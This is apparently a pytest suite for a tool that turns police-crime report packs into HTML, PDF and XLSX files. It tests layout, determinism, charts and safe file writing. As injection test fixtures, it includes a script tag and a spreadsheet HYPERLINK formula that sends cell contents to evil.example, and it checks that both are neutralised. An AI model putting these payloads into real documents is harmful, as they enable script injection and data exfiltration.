"""The documents a report pack becomes: HTML, PDF and XLSX, built here from a pack made by hand
so every value can be checked against what was put in."""

from __future__ import annotations

import contextlib
import dataclasses
import datetime as dt
import os
import re
import shutil
import subprocess
from html.parser import HTMLParser

import openpyxl
import pytest

from sara.errors import Invalid
from sara.report import documents
from sara.report.pack import Chart, Pack, Section, Table

HOSTILE = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
MONTHS = [f"2025-{m:02d}" for m in range(1, 13)]


def small_pack(long_rows: int = 8) -> Pack:
    by_month = Table(
        "crime_by_month", "Crimes and anti-social behaviour by month", ("month", "crimes", "asb"),
        tuple((m, 100 + 7 * i, None if i == 3 else 40 - i) for i, m in enumerate(MONTHS)),
        note="3 rows without a month are not counted.",
        chart=Chart("line", "month", ("crimes", "asb"), y_label="Incidents", marks=(("2025-04", "Clear starts"), ("2025-08", "Hold begins"))),
    )  # fmt: skip
    wards = Table(
        "wards_by_rate", "Wards by crimes per 1,000 residents", ("ward", "rate", "crimes"),
        (("Bolsover North", 31.25, 412), ("Shirebrook East", 27.5, 388), (HOSTILE, 0.0042, 1), ("Pleasley", None, 12)),
        note="No population loaded for 1 ward: no rate.", chart=Chart("barh", "ward", ("rate",), y_label="Crimes per 1,000"),
    )  # fmt: skip
    streets = Table(
        "streets", "Every street with a crime", ("street", "district", "crimes"),
        tuple((f"Street {i}", "Bolsover" if i % 2 else "Chesterfield", 3 * i) for i in range(long_rows)) + ((FORMULA, None, None),),
    )  # fmt: skip
    return Pack(
        "Performance scrutiny: Derbyshire", "January to December 2025, against 2024",
        (Section("Summary", ("Crime rose by 4% against the baseline.", "Anti-social behaviour fell."), (by_month, wards)),
         Section("Detail", ("Every street where a crime was recorded.",), (streets,))),
        parameters={"period": "2025-01 to 2025-12", "baseline": "2024", "area": "Derbyshire"},
        provenance={"sources": [{"name": "police.uk street crime", "months": "2024-01 to 2025-12", "loaded_at": "2026-01-05T10:00:00"}],
                    "rows_quarantined": 12},
        made_at=dt.datetime(2026, 1, 6, 9, 30),
    )  # fmt: skip


class Balanced(HTMLParser):
    """Checks every element is closed in order (void elements aside)."""

    VOID = {"meta", "link", "br", "hr", "img", "input", "col", "area", "base", "wbr", "source"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.errors: list[str] = []
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
        else:
            self.stack.pop()

    def handle_data(self, data):
        self.text.append(data)


def parsed(text: str) -> Balanced:
    parser = Balanced()
    parser.feed(text)
    parser.close()
    assert parser.errors == [] and parser.stack == []
    return parser


def test_html_has_every_section_table_cell_note_and_how_it_was_made():
    pack = small_pack()
    page = documents.html(pack)
    assert page.startswith("<!DOCTYPE html>")
    doc = parsed(page)
    text = " ".join(doc.text)
    for section in pack.sections:
        assert section.title in text
        assert all(p in text for p in section.paragraphs)
        for table in section.tables:
            assert table.title in text and table.note in text
            for row in table.rows:
                for value in row:
                    assert documents.cell_text(value) in text
    assert "412" in text and "31.2" in text and "0.0042" in text  # numbers as people read them
    assert "How this was made" in text and "police.uk street crime" in text and "2024-01 to 2025-12" in text and "Rows quarantined" in text
    assert "5 Jan 2026 10:00" in text  # a load time as people read it
    assert page.count("<svg") == 2  # the two charts, inline; the third table has none
    assert 'href="#section-1"' in page and 'id="section-1"' in page and 'href="#table-streets"' in page


def test_html_escapes_what_a_partner_typed():
    page = documents.html(small_pack())
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "script" not in parsed(page).tags


def test_the_same_pack_gives_the_same_html_and_svg():
    assert documents.html(small_pack()) == documents.html(small_pack())
    table = small_pack().tables["crime_by_month"]
    assert documents.chart_svg(table) == documents.chart_svg(table)
    assert "Date" not in documents.chart_svg(table) and "<dc:date>" not in documents.chart_svg(table)
    assert documents.pdf_document(small_pack()).write_pdf() == documents.pdf_document(small_pack()).write_pdf()


def test_chart_svg_draws_the_marks_and_series_as_vectors():
    pack = small_pack()
    svg = documents.chart_svg(pack.tables["crime_by_month"])
    assert svg.startswith("<svg") and svg.rstrip().endswith("</svg>")
    assert "Clear starts" in svg and "Hold begins" in svg  # the marks' labels, as text
    assert "crimes" in svg and "asb" in svg  # the legend of two series
    assert "<image" not in svg and "<path" in svg
    bars = documents.chart_svg(pack.tables["wards_by_rate"])
    assert "Bolsover North" in bars and "&lt;script&gt;" in bars and "<script" not in bars
    assert documents.chart_svg(pack.tables["streets"]) == ""
    money = Table("spend", "Spend", ("item", "pounds"), (("$5 an hour", 0.25), ("b\\c", 0.5)), chart=Chart("bar", "item", ("pounds",)))
    drawn = documents.chart_svg(money)
    assert ">$5 an hour<" in drawn and ">b\\c<" in drawn  # a dollar sign is not mathematics
    ticks = [t for t in re.findall(r"<text[^>]*>([^<]*)</text>", drawn) if t[:1].isdigit()]
    assert len(ticks) > 2 and len(set(ticks)) == len(ticks)  # ticks keep the decimals they need (0.25 is not a second 0.2)
    uri = documents.chart_data_uri(pack.tables["wards_by_rate"])
    assert uri.startswith("data:image/svg+xml;base64,")


def test_a_rank_chart_runs_downward_and_a_bad_column_is_named():
    ranks = Table("ranks", "Rank of the site", ("month", "rank"), tuple((m, 1 + i % 5) for i, m in enumerate(MONTHS)),
                  chart=Chart("line", "month", ("rank",), invert=True))  # fmt: skip
    assert "<svg" in documents.chart_svg(ranks)
    assert "rank 1 at the top" in documents.chart_alt(ranks)
    assert documents._draw(ranks).axes[0].yaxis_inverted()
    counts = documents._draw(small_pack().tables["crime_by_month"]).axes[0]
    assert not counts.yaxis_inverted() and counts.get_ylim()[0] == 0  # counts run upward from zero
    wrong = Table("t", "T", ("month", "n"), (("2025-01", 1),), chart=Chart("bar", "month", ("count",)))
    with pytest.raises(Invalid, match="count"):
        documents.chart_svg(wrong)


def page_text(page) -> str:
    from weasyprint.formatting_structure import boxes

    return " ".join(b.text for b in page._page_box.descendants() if isinstance(b, boxes.TextBox))


def test_pdf_has_contents_with_page_numbers_and_page_n_of_m(tmp_path):
    pack = small_pack(long_rows=150)
    document = documents.pdf_document(pack)
    pages = len(document.pages)
    assert pages > 2
    first = page_text(document.pages[0])
    assert "Contents" in first and "Every street with a crime" in first and f"Page 1 of {pages}" in first
    last = page_text(document.pages[-1])
    assert "How this was made" in last and f"Page {pages} of {pages}" in last
    where = {title: next(i for i, p in enumerate(document.pages, start=1) if title in page_text(p) and i > 1) for title in ("Detail", "How this was made")}
    contents = [w for w in first.split() if w.strip(".")]  # without the leader dots
    assert str(where["How this was made"]) == contents[contents.index("made") + 1]  # the contents say where it is
    assert str(where["Detail"]) == contents[contents.index("Detail") + 1]
    header_pages = [i for i, p in enumerate(document.pages, start=1) if "street district crimes" in page_text(p)]
    assert len(header_pages) >= 2  # the long table's header row repeats on every page it runs over

    path = documents.write_pdf(pack, tmp_path / "scrutiny.pdf")
    assert path.read_bytes().startswith(b"%PDF-")
    assert [p.name for p in tmp_path.iterdir()] == ["scrutiny.pdf"]


def test_pdf_charts_are_vector_graphics():
    from weasyprint import HTML

    raw = documents.pdf_document(small_pack()).write_pdf(uncompressed_pdf=True)
    assert b"/Subtype /Image" not in raw and b"/Subtype /Form" in raw
    import io
    from base64 import b64encode

    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buf, format="PNG")
    dot = b64encode(buf.getvalue())  # a control: the same check finds a raster image
    control = HTML(string=f'<img src="data:image/png;base64,{dot.decode()}" width="10" height="10">').write_pdf(uncompressed_pdf=True)
    assert b"/Subtype /Image" in control


def test_xlsx_has_about_and_one_sheet_per_table(tmp_path):
    pack = small_pack()
    path = documents.write_xlsx(pack, tmp_path / "scrutiny.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["About", "crime_by_month", "wards_by_rate", "streets"]
    about = [[v for v in row if v is not None] for row in book["About"].iter_rows(values_only=True)]
    assert about[0] == ["Performance scrutiny: Derbyshire"]
    assert ["Period", "2025-01 to 2025-12"] in about and ["Rows quarantined", 12] in about
    assert ["Sources / 1 / Name", "police.uk street crime"] in about
    assert ["streets", "Every street with a crime"] in about
    for table in pack.tables.values():
        sheet = book[table.name]
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0] == table.columns and all(c.font.b for c in sheet[1])
        body = rows[1 : 1 + len(table.rows)]
        for got, want in zip(body, table.rows, strict=True):
            if FORMULA in want:
                continue
            assert list(got) == list(want)  # numbers as numbers, None as an empty cell
        if table.note:
            assert rows[-1][0] == table.note and rows[-2] == (None,) * len(table.columns)
    formula = book["streets"].cell(row=len(pack.tables["streets"].rows) + 1, column=1)
    assert formula.value == "'" + FORMULA and formula.data_type == "s"
    assert not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)
    assert isinstance(book["wards_by_rate"]["B2"].value, float) and book["wards_by_rate"]["B5"].value is None


def test_xlsx_is_the_same_for_the_same_pack(tmp_path):
    one = documents.write_xlsx(small_pack(), tmp_path / "one.xlsx")
    two = documents.write_xlsx(small_pack(), tmp_path / "two.xlsx")

    def values(path):
        return {ws.title: list(ws.iter_rows(values_only=True)) for ws in openpyxl.load_workbook(path)}

    assert values(one) == values(two)
    assert one.read_bytes() == two.read_bytes()  # no time of saving in it
    assert openpyxl.load_workbook(one).properties.modified == dt.datetime(2026, 1, 6, 9, 30)


def test_sheet_names_keep_to_excels_rules():
    names = ["a/b:c*d?e[f]g\\h", "x" * 40, "x" * 31 + "tail", "About", "history", "About"]
    tables = tuple(Table(n, n, ("a",), ((1,),)) for n in dict.fromkeys(names))
    pack = Pack("T", "", (Section("S", (), tables),))
    sheets = documents.sheet_names(pack)
    assert sheets["a/b:c*d?e[f]g\\h"] == "a_b_c_d_e_f_g_h"
    assert all(len(s) <= 31 for s in sheets.values())
    assert len({s.lower() for s in sheets.values()} | {"about"}) == len(sheets) + 1
    assert sheets["x" * 40] == "x" * 31 and sheets["x" * 31 + "tail"] == "x" * 29 + "~2"
    book = documents.workbook(pack)
    assert book.sheetnames[0] == "About" and len(book.sheetnames) == len(tables) + 1


@pytest.mark.parametrize("writer,field", [(documents.write_pdf, "pdf"), (documents.write_xlsx, "xlsx")])
def test_a_missing_folder_is_one_line_and_no_file(tmp_path, writer, field):
    with pytest.raises(Invalid) as refused:
        writer(small_pack(), tmp_path / "no-such-folder" / f"out.{field}")
    assert refused.value.field == field and "\n" not in str(refused.value) and "does not exist" in str(refused.value)
    assert list(tmp_path.iterdir()) == []


@contextlib.contextmanager
def read_only(folder):
    """``folder`` made read-only for this process: by its mode, or (for root, whom modes do not
    stop) by the immutable attribute."""
    if os.geteuid() == 0:
        subprocess.run([shutil.which("chattr") or "chattr", "+i", str(folder)], check=True)
        try:
            yield
        finally:
            subprocess.run(["chattr", "-i", str(folder)], check=True)
    else:
        folder.chmod(0o555)
        try:
            yield
        finally:
            folder.chmod(0o755)


@pytest.mark.parametrize("writer,field", [(documents.write_pdf, "pdf"), (documents.write_xlsx, "xlsx")])
def test_a_read_only_folder_is_one_line_and_no_file(tmp_path, writer, field):
    folder = tmp_path / "locked"
    folder.mkdir()
    with read_only(folder), pytest.raises(Invalid) as refused:
        writer(small_pack(), folder / f"out.{field}")
    assert refused.value.field == field and "\n" not in str(refused.value) and "cannot write" in str(refused.value)
    assert list(folder.iterdir()) == []


def test_a_failure_while_writing_leaves_the_old_file_and_no_partial_one(tmp_path):
    target = tmp_path / "pack.pdf"
    target.write_bytes(b"the previous PDF")

    def half_then_fail(tmp):
        tmp.write_bytes(b"%PDF-1.7 half")
        raise OSError(28, "No space left on device")

    with pytest.raises(Invalid, match="No space left on device") as refused:
        documents._atomic(target, "pdf", half_then_fail)
    assert refused.value.field == "pdf"
    assert target.read_bytes() == b"the previous PDF" and [p.name for p in tmp_path.iterdir()] == ["pack.pdf"]


def test_the_page_macro_renders_a_pack_under_the_csp():
    from sara.web.render import ENV

    pack = small_pack()
    page = ENV.from_string('{% from "macros/pack.html" import render_pack %}{{ render_pack(pack, downloads=[("PDF", "/reports/x.pdf")]) }}').render(pack=pack)
    doc = parsed(page)
    text = " ".join(doc.text)
    assert all(s.title in text for s in pack.sections) and all(t.note in text for t in pack.tables.values())
    assert "style=" not in page and "<script" not in page and "<svg" not in page  # charts are images: nothing inline for the CSP to block
    assert page.count('<img src="data:image/svg+xml;base64,') == 2
    assert 'alt="Line chart of Crimes and anti-social behaviour by month' in page and "marked: Clear starts at 2025-04" in page
    assert 'class="govuk-table__cell govuk-table__cell--numeric">412<' in page
    assert 'href="/reports/x.pdf"' in page and 'href="#pack-section-1"' in page and 'id="pack-section-1"' in page
    assert "&lt;script&gt;" in page


def serve(page, document: str, policy: str) -> None:
    """Shows ``document`` in the browser as SARA would serve it, under ``policy``, with SARA's stylesheet."""
    from sara.web.render import TEMPLATES

    css = (TEMPLATES.parent / "static" / "build" / "sara.css").read_text()

    def reply(route):
        if route.request.url.endswith("/sara.css"):
            route.fulfill(body=css, content_type="text/css")
        else:
            route.fulfill(body=document, content_type="text/html; charset=utf-8", headers={"Content-Security-Policy": policy})

    page.route("http://sara.test/**", reply)
    page.goto("http://sara.test/reports/scrutiny")


def test_the_pack_in_a_page_shows_its_charts_under_the_page_csp(page):
    from sara.web.render import ENV
    from sara.web.security import content_security_policy
    from tests.web import walk

    pack = small_pack()
    pack = dataclasses.replace(pack, sections=(*pack.sections, Section("Every month", (), (wide_table(),))))
    body = ENV.from_string('{% from "macros/pack.html" import render_pack %}{{ render_pack(pack, downloads=[("PDF", "/x.pdf"), ("XLSX", "/x.xlsx")]) }}')
    document = ('<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>Scrutiny</title><link rel="stylesheet" href="/sara.css"></head>'
                '<body class="govuk-template__body"><div class="govuk-width-container"><main class="govuk-main-wrapper" id="main-content">'
                f'<h1 class="govuk-heading-xl">{pack.title}</h1>{body.render(pack=pack)}</main></div></body></html>')  # fmt: skip
    serve(page, document, content_security_policy(None))
    drawn = page.eval_on_selector_all(".sara-chart img", "els => els.map(e => e.complete && e.naturalWidth > 0)")
    assert drawn == [True, True]
    assert page.errors == []
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")  # the wide table scrolls in its own region
    assert page.eval_on_selector(".sara-pack-scroll", "e => e.scrollWidth > e.clientWidth")
    walk(page, "report-pack")


def test_the_standalone_document_shows_under_its_own_policy(page):
    from tests.web import walk

    serve(page, documents.html(small_pack()), documents.DOCUMENT_POLICY)
    assert page.eval_on_selector_all(".chart svg", "els => els.map(e => e.getBoundingClientRect().width > 300)") == [True, True]
    assert page.eval_on_selector("th.num", "e => getComputedStyle(e).textAlign") == "right"  # its stylesheet applied
    assert page.errors == []
    walk(page, "report-document")


def wide_table() -> Table:
    columns = ("ward", *(f"2024-{m:02d}" for m in range(1, 13)), *MONTHS, "total")
    rows = tuple((f"Bolsover North West and Shirebrook Langwith ward {i}", *(1000 * m + i for m in range(24)), 123456) for i in range(5))
    return Table("by_month", "Crimes by ward and month", columns, rows)


def test_a_wide_table_is_printed_landscape_and_nothing_runs_off_the_page():
    from weasyprint.formatting_structure import boxes

    pack = Pack("Wide", "", (Section("By month", (), (wide_table(),)),))
    document = documents.pdf_document(pack)
    table_pages = [p for p in document.pages if "Crimes by ward and month" in page_text(p) and "Contents" not in page_text(p)]
    assert table_pages and all(p.width > p.height for p in table_pages)
    assert "By month" in page_text(table_pages[0])  # the section's heading went with its table
    for page in document.pages:
        for box in page._page_box.descendants():
            if isinstance(box, boxes.TextBox):
                assert box.position_x + box.width <= page.width + 0.5, box.text
    text = " ".join(page_text(p) for p in table_pages)
    assert "123,456" in text and "23,004" in text
